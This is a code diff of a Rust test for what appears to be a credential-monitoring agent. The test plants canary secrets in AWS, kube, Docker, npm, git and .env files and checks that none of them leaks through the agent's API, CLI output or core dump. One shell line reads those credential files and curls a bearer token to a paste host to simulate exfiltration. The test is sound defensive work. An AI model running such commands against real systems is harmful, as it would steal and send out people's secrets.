@@ -19,7 +19,14 @@ fn canary(number: u32) -> String {
 /// What is searched for: the middle of a canary, which also a damaged copy would hold.
 fn marks(numbers: std::ops::Range<u32>) -> Vec<(u32, Vec<u8>)> {
     numbers
-        .map(|number| (number, format!("RyXX{}", "qZ7x".repeat(3)).replace("XX", &format!("{number:02}")).into_bytes()))
+        .map(|number| {
+            (
+                number,
+                format!("RyXX{}", "qZ7x".repeat(3))
+                    .replace("XX", &format!("{number:02}"))
+                    .into_bytes(),
+            )
+        })
         .collect()
 }
 
@@ -48,23 +55,68 @@ fn no_secret_stays() -> Result<()> {
     let jwt_part = base64::engine::general_purpose::URL_SAFE_NO_PAD;
     let pem = base64.encode(canary(3));
     let pair = base64.encode(format!("user:{}", canary(4)));
-    let jwt = format!("{}.{}.{}", jwt_part.encode(r#"{"alg":"none"}"#), jwt_part.encode(r#"{"sub":"x","exp":1600000000}"#), canary(5));
+    let jwt = format!(
+        "{}.{}.{}",
+        jwt_part.encode(r#"{"alg":"none"}"#),
+        jwt_part.encode(r#"{"sub":"x","exp":1600000000}"#),
+        canary(5)
+    );
     let files = [
-        (".aws/credentials", format!("[default]\naws_access_key_id=AKIAFAKECANARY000001\naws_secret_access_key={}\n", canary(0))),
-        (".netrc", format!("machine a.example login b password {}\n", canary(1))),
-        (".kube/config", format!("users:\n- name: a\n  user: {{ token: {} }}\n", canary(2))),
-        ("tls/server.key", format!("-----BEGIN PRIVATE KEY-----\n{pem}\n-----END PRIVATE KEY-----\n")),
-        (".docker/config.json", format!(r#"{{"auths":{{"r.example":{{"auth":"{pair}"}}}}}}"#)),
+        (
+            ".aws/credentials",
+            format!(
+                "[default]\naws_access_key_id=AKIAFAKECANARY000001\naws_secret_access_key={}\n",
+                canary(0)
+            ),
+        ),
+        (
+            ".netrc",
+            format!("machine a.example login b password {}\n", canary(1)),
+        ),
+        (
+            ".kube/config",
+            format!("users:\n- name: a\n  user: {{ token: {} }}\n", canary(2)),
+        ),
+        (
+            "tls/server.key",
+            format!("-----BEGIN PRIVATE KEY-----\n{pem}\n-----END PRIVATE KEY-----\n"),
+        ),
+        (
+            ".docker/config.json",
+            format!(r#"{{"auths":{{"r.example":{{"auth":"{pair}"}}}}}}"#),
+        ),
         (".vault-token", jwt),
-        (".npmrc", format!("//registry.npmjs.org/:_authToken={}\n", canary(6))),
-        (".env", format!("GITHUB_TOKEN={}\nDATABASE_URL=postgres://u:{}@db/x\n", canary(7), canary(8))),
+        (
+            ".npmrc",
+            format!("//registry.npmjs.org/:_authToken={}\n", canary(6)),
+        ),
+        (
+            ".env",
+            format!(
+                "GITHUB_TOKEN={}\nDATABASE_URL=postgres://u:{}@db/x\n",
+                canary(7),
+                canary(8)
+            ),
+        ),
         (".pgpass", format!("db:5432:x:u:{}\n", canary(9))),
-        (".git-credentials", format!("https://u:{}@git.example\n", canary(10))),
+        (
+            ".git-credentials",
+            format!("https://u:{}@git.example\n", canary(10)),
+        ),
         ("store.p12", canary(11)),
         // Broken on purpose: the errors of parsers quote what they do not understand.
-        ("broken/.docker/config.json", format!(r#"{{"auths": {{"x": {}"#, canary(12))),
-        ("broken/.kube/config", format!("users: [ {{ token: {}\n  : : :", canary(13))),
-        ("broken/.aws/credentials", format!("[default\naws_secret_access_key {}\n", canary(14))),
+        (
+            "broken/.docker/config.json",
+            format!(r#"{{"auths": {{"x": {}"#, canary(12)),
+        ),
+        (
+            "broken/.kube/config",
+            format!("users: [ {{ token: {}\n  : : :", canary(13)),
+        ),
+        (
+            "broken/.aws/credentials",
+            format!("[default\naws_secret_access_key {}\n", canary(14)),
+        ),
     ];
     for (name, text) in &files {
         let path = planted.join(name);
@@ -72,11 +124,18 @@ fn no_secret_stays() -> Result<()> {
         std::fs::write(path, text)?;
     }
     // One environment is there before the agent, and read by it.
-    let mut early = Command::new("sleep").arg("120").env("SLACK_BOT_TOKEN", canary(15)).stdout(Stdio::null()).spawn()?;
+    let mut early = Command::new("sleep")
+        .arg("120")
+        .env("SLACK_BOT_TOKEN", canary(15))
+        .stdout(Stdio::null())
+        .spawn()?;
     let agent = Agent::start(directory.path(), &[])?;
     let server = TlsServer::start("127.0.0.1")?;
     let url = format!("redis://:{}@cache:6379", canary(16));
-    let paths: Vec<String> = files.iter().map(|(name, _)| planted.join(name).display().to_string()).collect();
+    let paths: Vec<String> = files
+        .iter()
+        .map(|(name, _)| planted.join(name).display().to_string())
+        .collect();
     sh(
         &format!(
             "cat {} >/dev/null; curl -sS -k -H \"Authorization: Bearer $MY_API_KEY\" --connect-to ::127.0.0.1:{} https://paste.example/ >/dev/null",
@@ -86,22 +145,54 @@ fn no_secret_stays() -> Result<()> {
         &[("REDIS_URL", &url), ("MY_API_KEY", &canary(17))],
     )?;
     // Everything was seen: the readable files, both environments, the hop.
-    for known in paths.iter().take(11).map(String::as_str).chain(["env:SLACK_BOT_TOKEN", "env:REDIS_URL", "env:MY_API_KEY"]) {
-        agent.await_json(&["query", "who", known], |answer| answer["uses"].as_array().is_some_and(|uses| !uses.is_empty()))?;
+    for known in paths.iter().take(11).map(String::as_str).chain([
+        "env:SLACK_BOT_TOKEN",
+        "env:REDIS_URL",
+        "env:MY_API_KEY",
+    ]) {
+        agent.await_json(&["query", "who", known], |answer| {
+            answer["uses"]
+                .as_array()
+                .is_some_and(|uses| !uses.is_empty())
+        })?;
     }
-    agent.await_json(&["query", "where", "env:MY_API_KEY"], |answer| answer["hops"].as_array().is_some_and(|hops| !hops.is_empty()))?;
+    agent.await_json(&["query", "where", "env:MY_API_KEY"], |answer| {
+        answer["hops"]
+            .as_array()
+            .is_some_and(|hops| !hops.is_empty())
+    })?;
     let mut places: Vec<(String, Vec<u8>)> = Vec::new();
-    for path in ["/metrics", "/api/v1/credentials", "/api/v1/hops", "/api/v1/findings", "/api/v1/timeline", "/api/v1/workloads"] {
+    for path in [
+        "/metrics",
+        "/api/v1/credentials",
+        "/api/v1/hops",
+        "/api/v1/findings",
+        "/api/v1/timeline",
+        "/api/v1/workloads",
+    ] {
         places.push((path.to_owned(), agent.get(path)?.1.into_bytes()));
     }
-    for arguments in [["inventory"].as_slice(), &["findings"], &["query", "timeline"], &["query", "who", &paths[0]]] {
+    for arguments in [
+        ["inventory"].as_slice(),
+        &["findings"],
+        &["query", "timeline"],
+        &["query", "who", &paths[0]],
+    ] {
         let output = agent.ask(arguments)?;
         places.push((arguments.join(" "), [output.stdout, output.stderr].concat()));
     }
     let core = directory.path().join("core");
-    let dumped = Command::new("gcore").arg("-o").arg(&core).arg(agent.pid().to_string()).output()?;
+    let dumped = Command::new("gcore")
+        .arg("-o")
+        .arg(&core)
+        .arg(agent.pid().to_string())
+        .output()?;
     let core = PathBuf::from(format!("{}.{}", core.display(), agent.pid()));
-    assert!(core.is_file(), "gcore made no core: {}", String::from_utf8_lossy(&dumped.stderr));
+    assert!(
+        core.is_file(),
+        "gcore made no core: {}",
+        String::from_utf8_lossy(&dumped.stderr)
+    );
     early.kill()?;
     early.wait()?;
     std::fs::remove_dir_all(&planted)?;
@@ -118,7 +209,14 @@ fn no_secret_stays() -> Result<()> {
             assert!(!holds(bytes, &mark), "canary {number} is in {place}");
         }
     }
-    let core_bytes = &places.iter().find(|(place, _)| *place == core.display().to_string()).context("the core")?.1;
-    assert!(holds(core_bytes, b"env:SLACK_BOT_TOKEN"), "the core is not the agent's");
+    let core_bytes = &places
+        .iter()
+        .find(|(place, _)| *place == core.display().to_string())
+        .context("the core")?
+        .1;
+    assert!(
+        holds(core_bytes, b"env:SLACK_BOT_TOKEN"),
+        "the core is not the agent's"
+    );
     Ok(())
 }
